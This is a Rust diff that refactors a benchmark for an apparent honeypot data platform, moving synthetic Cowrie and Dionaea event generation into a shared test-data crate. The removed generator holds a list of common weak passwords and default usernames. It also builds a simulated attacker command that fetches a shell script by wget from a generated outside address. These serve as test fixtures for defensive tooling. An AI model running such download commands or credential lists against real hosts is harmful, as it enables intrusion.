@@ -21,7 +21,7 @@
 //!
 //! Nothing is asserted; only figures are printed.
 
-use std::net::{IpAddr, Ipv4Addr};
+use std::net::IpAddr;
 use std::path::PathBuf;
 use std::sync::atomic::{AtomicBool, AtomicU64, Ordering::Relaxed};
 use std::sync::Arc;
@@ -29,15 +29,16 @@ use std::time::{Duration as StdDuration, Instant};
 
 use apiary_broker::router::ChannelFilter;
 use apiary_broker::{Broker, BrokerConfig};
-use apiary_geo::{GeoDb, GeoSettings};
+use apiary_geo::GeoDb;
 use apiary_ingest::pipeline::{process, IngestMetrics, Pipeline, PipelineConfig};
 use apiary_model::{Ident, Normalized, RawEvent, Secret};
 use apiary_store::{Dimension, IngestItem, Page, SessionFilter, Store};
+use apiary_testdata::{
+    address_pool, geo_db, live_payloads, load_average, preload, BoxError, PreloadSpec,
+};
 use bytes::Bytes;
-use chrono::{DateTime, Duration, SecondsFormat, Utc};
+use chrono::{Duration, Utc};
 use tokio_util::sync::CancellationToken;
-
-type BoxError = Box<dyn std::error::Error + Send + Sync>;
 
 struct Args {
     sessions: usize,
@@ -99,274 +100,8 @@ impl Args {
     }
 }
 
-/// xorshift64: fast, deterministic, good enough for test data.
-struct Rng(u64);
-
-impl Rng {
-    fn next(&mut self) -> u64 {
-        let mut x = self.0;
-        x ^= x << 13;
-        x ^= x >> 7;
-        x ^= x << 17;
-        self.0 = x;
-        x
-    }
-    fn below(&mut self, n: u64) -> u64 {
-        self.next() % n.max(1)
-    }
-    /// Skewed pick: low indexes far more often (a few heavy hitters, a long tail).
-    fn skewed(&mut self, n: u64) -> u64 {
-        let a = self.below(n);
-        self.below(a + 1)
-    }
-}
-
-/// `n` distinct public (geo-routable) IPv4 addresses.
-fn address_pool(n: usize, seed: u64) -> Vec<Ipv4Addr> {
-    let mut rng = Rng(seed);
-    let mut seen = std::collections::HashSet::with_capacity(n);
-    let mut out = Vec::with_capacity(n);
-    while out.len() < n {
-        let ip = Ipv4Addr::from(rng.next() as u32);
-        if apiary_geo::is_non_routable(IpAddr::V4(ip)) || !seen.insert(ip) {
-            continue;
-        }
-        out.push(ip);
-    }
-    out
-}
-
-const USERS: &[&str] = &[
-    "root", "admin", "user", "test", "ubuntu", "oracle", "postgres", "git", "pi", "support",
-    "guest", "ftpuser", "deploy", "hadoop", "mysql", "nagios", "centos", "ec2-user", "www",
-    "tomcat",
-];
-const PASSWORDS: &[&str] = &[
-    "123456",
-    "password",
-    "admin",
-    "root",
-    "12345678",
-    "qwerty",
-    "1234",
-    "111111",
-    "toor",
-    "raspberry",
-    "123",
-    "pass",
-    "changeme",
-    "admin123",
-    "P@ssw0rd",
-    "letmein",
-    "default",
-    "support",
-    "ubnt",
-    "1q2w3e4r",
-];
-const DIONAEA: &[(u16, &str)] = &[
-    (445, "smbd"),
-    (80, "httpd"),
-    (1433, "mssqld"),
-    (3306, "mysqld"),
-    (21, "ftpd"),
-    (5060, "SipSession"),
-    (135, "epmapper"),
-    (42, "nameserver"),
-];
-const SSH_CLIENTS: &[&str] = &[
-    "SSH-2.0-libssh2_1.9.0",
-    "SSH-2.0-Go",
-    "SSH-2.0-OpenSSH_7.4",
-    "SSH-2.0-PuTTY_Release_0.70",
-    "SSH-2.0-paramiko_2.7.1",
-];
-
-fn username(rng: &mut Rng) -> String {
-    let i = rng.skewed(2_000) as usize;
-    USERS
-        .get(i)
-        .map_or_else(|| format!("user{i}"), |s| (*s).to_owned())
-}
-
-fn password(rng: &mut Rng) -> String {
-    let i = rng.skewed(20_000) as usize;
-    PASSWORDS
-        .get(i)
-        .map_or_else(|| format!("pw{i:x}"), |s| (*s).to_owned())
-}
-
-/// One realistic payload: (channel, JSON). Cowrie sessions carry their own start time.
-fn payload(
-    rng: &mut Rng,
-    pool: &[Ipv4Addr],
-    sensor_ip: Ipv4Addr,
-    ts: DateTime<Utc>,
-) -> (&'static str, String) {
-    let src = pool[rng.skewed(pool.len() as u64) as usize];
-    let sport = 1024 + rng.below(64_000);
-    if rng.below(10) < 6 {
-        let telnet = rng.below(5) == 0;
-        let (port, proto) = if telnet { (23, "telnet") } else { (22, "ssh") };
-        let mut creds = Vec::new();
-        for _ in 0..1 + rng.below(3) {
-            creds.push(serde_json::json!([username(rng), password(rng)]));
-        }
-        let logged = rng.below(10) == 0;
-        let loggedin = if logged {
-            creds.last().cloned().unwrap_or(serde_json::Value::Null)
-        } else {
-            serde_json::Value::Null
-        };
-        let commands: Vec<String> = if logged {
-            vec![
-                "uname -a".into(),
-                format!(
-                    "wget http://{}/x{}.sh",
-                    pool[rng.below(50) as usize],
-                    rng.below(9)
-                ),
-            ]
-        } else {
-            Vec::new()
-        };
-        let end = ts + Duration::milliseconds(500 + rng.below(30_000) as i64);
-        let v = serde_json::json!({
-            "session": format!("{:012x}", rng.next() & 0xffff_ffff_ffff),
-            "startTime": ts.to_rfc3339_opts(SecondsFormat::Micros, true),
-            "endTime": end.to_rfc3339_opts(SecondsFormat::Micros, true),
-            "peerIP": src.to_string(),
-            "peerPort": sport,
-            "hostIP": sensor_ip.to_string(),
-            "hostPort": port,
-            "loggedin": loggedin,
-            "credentials": creds,
-            "commands": commands,
-            "unknownCommands": [],
-            "urls": [],
-            "version": if telnet { serde_json::Value::Null } else {
-                SSH_CLIENTS[rng.skewed(SSH_CLIENTS.len() as u64) as usize].into()
-            },
-            "ttylog": null,
-            "hashes": [],
-            "protocol": proto,
-        });
-        ("cowrie.sessions", v.to_string())
-    } else {
-        let (port, proto) = DIONAEA[rng.skewed(DIONAEA.len() as u64) as usize];
-        let v = serde_json::json!({
-            "connection_type": "accept",
-            "connection_transport": "tcp",
-            "connection_protocol": proto,
-            "remote_host": src.to_string(),
-            "remote_port": sport,
-            "remote_hostname": "",
-            "local_host": sensor_ip.to_string(),
-            "local_port": port,
-        });
-        ("dionaea.connections", v.to_string())
-    }
-}
-
-fn sensor_ip(i: usize) -> Ipv4Addr {
-    // Documentation-free public-looking addresses, one per sensor.
-    Ipv4Addr::new(45, 33, (i / 200) as u8, 10 + (i % 200) as u8)
-}
-
 fn rate(n: u64, d: StdDuration) -> f64 {
     n as f64 / d.as_secs_f64().max(1e-9)
-}
-
-fn geo_db() -> GeoDb {
-    let dirs = [
-        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../data/geo"),
-        PathBuf::from("data").join("geo"),
-    ];
-    let settings = GeoSettings::discover_in(&dirs);
-    match GeoDb::open(&settings) {
-        Ok(db) if db.is_enabled() => db,
-        Ok(_) | Err(_) => {
-            println!("WARNING: no geo database found in data/geo; run scripts/fetch-geo.sh");
-            GeoDb::disabled()
-        }
-    }
-}
-
-/// Preloads `total` sessions over `[now - span, now - 1 h)` through the store's write path.
-async fn preload(
-    store: &Arc<dyn Store>,
-    geo: &Arc<GeoDb>,
-    pool: &Arc<Vec<Ipv4Addr>>,
-    a: &Args,
-    now: DateTime<Utc>,
-) -> Result<(), BoxError> {
-    let total = a.sessions;
-    if total == 0 {
-        return Ok(());
-    }
-    let span_us = (a.span_days * 24 - 1) * 3_600_000_000;
-    let start = now - Duration::days(a.span_days);
-    let step_us = (span_us / total as i64).max(1);
-    let batch = a.preload_batch;
-    // Generate and normalize on a separate thread so it overlaps the inserts.
-    let (tx, mut rx) = tokio::sync::mpsc::channel::<Vec<IngestItem>>(2);
-    let (geo2, pool2) = (geo.clone(), pool.clone());
-    let gen = std::thread::spawn(move || {
-        let metrics = IngestMetrics::default();
-        let mut rng = Rng(0x0bad_cafe_1234_5678);
-        let mut done = 0usize;
-        while done < total {
-            let n = batch.min(total - done);
-            let items: Vec<IngestItem> = (done..done + n)
-                .map(|i| {
-                    let ts = start + Duration::microseconds(step_us * i as i64);
-                    let sensor = rng.below(20) as usize;
-                    let (channel, body) = payload(&mut rng, &pool2, sensor_ip(sensor), ts);
-                    let raw = RawEvent {
-                        id: None,
-                        channel: channel.into(),
-                        ident: format!("sensor-{sensor:02}"),
-                        received_at: ts,
-                        payload: Bytes::from(body),
-                    };
-                    process(raw, &geo2, &metrics)
-                })
-                .collect();
-            if tx.blocking_send(items).is_err() {
-                return;
-            }
-            done += n;
-        }
-    });
-    let t0 = Instant::now();
-    let mut done = 0u64;
-    let mut next_report = 500_000u64;
-    while let Some(items) = rx.recv().await {
-        done += items.len() as u64;
-        store.insert_batch(items).await?;
-        if done >= next_report || done == total as u64 {
-            println!(
-                "  preload {done:>10} / {total}  {:>8.0} sessions/s  ({:.0} s)",
-                rate(done, t0.elapsed()),
-                t0.elapsed().as_secs_f64()
-            );
-            next_report += 500_000;
-        }
-    }
-    gen.join().map_err(|_| "generator thread panicked")?;
-    Ok(())
-}
-
-/// The payloads publishers cycle through: (channel, payload, sensor index).
-fn live_payloads(pool: &[Ipv4Addr], n: usize, sensors: usize) -> Vec<(usize, &'static str, Bytes)> {
-    let mut rng = Rng(0x1234_5678_9abc_def1);
-    let now = Utc::now();
-    (0..n)
-        .map(|i| {
-            let s = i % sensors;
-            let (ch, body) = payload(&mut rng, pool, sensor_ip(s), now);
-            (s, ch, Bytes::from(body))
-        })
-        .collect()
 }
 
 async fn publisher(
@@ -618,12 +353,6 @@ where
     );
 }
 
-fn load_average() -> String {
-    std::fs::read_to_string("/proc/loadavg")
-        .map(|s| s.split_whitespace().take(3).collect::<Vec<_>>().join(" "))
-        .unwrap_or_else(|_| "?".into())
-}
-
 #[tokio::main(flavor = "multi_thread", worker_threads = 2)]
 async fn main() -> Result<(), BoxError> {
     let a = Args::parse()?;
@@ -662,7 +391,13 @@ async fn main() -> Result<(), BoxError> {
 
     // 1. Preload.
     let t = Instant::now();
-    preload(&store, &geo, &pool, &a, now).await?;
+    let spec = PreloadSpec {
+        sessions: a.sessions,
+        span_days: a.span_days,
+        batch: a.preload_batch,
+        ..PreloadSpec::default()
+    };
+    preload(&store, &geo, &pool, &spec, now).await?;
     let before = store
         .total_sessions(now - Duration::days(3650), Utc::now() + Duration::hours(2))
         .await?;
